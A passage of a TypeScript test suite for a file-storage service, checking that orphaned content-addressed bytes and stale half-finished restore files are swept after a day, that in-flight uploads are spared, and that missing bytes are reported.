    const [lostHash, keptHash] = [await hashOf(lost), await hashOf(kept)];
    await age(lostHash);
    await age(keptHash);
    const later = new Date(app.now.getTime() + 86_400_000 + 1000);
    expect(await app.asSystem((ctx) => sweepWaiting(ctx))).toBe(0);
    expect(await app.asSystem((ctx) => sweepBytes(ctx, all))).toBe(0);
    expect(await app.asSystem((ctx) => sweepWaiting({ ...ctx, now: later }))).toBeGreaterThan(0);
    expect(await app.asSystem((ctx) => sweepBytes(ctx, all))).toBe(1);
    expect(await onDisk()).toContain(keptHash);
    expect(await onDisk()).not.toContain(lostHash);
  });

  test('what a restore left half done goes after a day', async () => {
    const [old, fresh] = ['a', 'b'].map((c) => `${app.app.services.files.pathOf(c.repeat(64))}.unfinished`);
    for (const file of [old, fresh]) {
      await mkdir(path.dirname(file ?? ''), { recursive: true });
      await writeFile(file ?? '', 'half');
    }
    const long = new Date(Date.now() - 2 * 86_400_000);
    await utimes(old ?? '', long, long);
    await app.asSystem((ctx) => sweepBytes(ctx, all));
    expect((await onDisk()).filter((n) => n.endsWith('.unfinished'))).toEqual([`${'b'.repeat(64)}.unfinished`]);
    await rm(fresh ?? '');
  });

  test('bytes that an upload is about to name are not swept', async () => {
    const { body } = await put(Buffer.from('again'), 'again.txt');
    const hash = await hashOf(body.id);
    await app.connection.db.deleteFrom('files').where('id', '=', body.id).execute();
    await age(hash);
    await inTransaction(app.connection.db, (tx) => app.asSystem(async (ctx) => {
      await saveFile({ ...ctx, tx }, { name: 'again.txt', mime: 'text/plain', bytes: Buffer.from('again'), subject: { type: 'testMatter', id: newId() } });
      // Another node's sweep, as if the bytes had been renamed into place long ago.
      await age(hash);
      expect(await app.asSystem((other) => sweepBytes(other, all))).toBe(0);
    }));
    expect(await onDisk()).toContain(hash);
  });

  test('the check names a file whose bytes are gone', async () => {
    const { body } = await put(Buffer.from('gone'), 'gone.txt');
    expect(await app.asSystem((ctx) => missingBytes(ctx))).toEqual([]);
    await rm(app.app.services.files.pathOf(await hashOf(body.id)));
    expect(await app.asSystem((ctx) => missingBytes(ctx))).toEqual([expect.stringContaining(body.id)]);
    expect((await app.call(fileContent, { params: { id: body.id }, query: {} }, ann)).status).toBeGreaterThanOrEqual(400);
  });
});
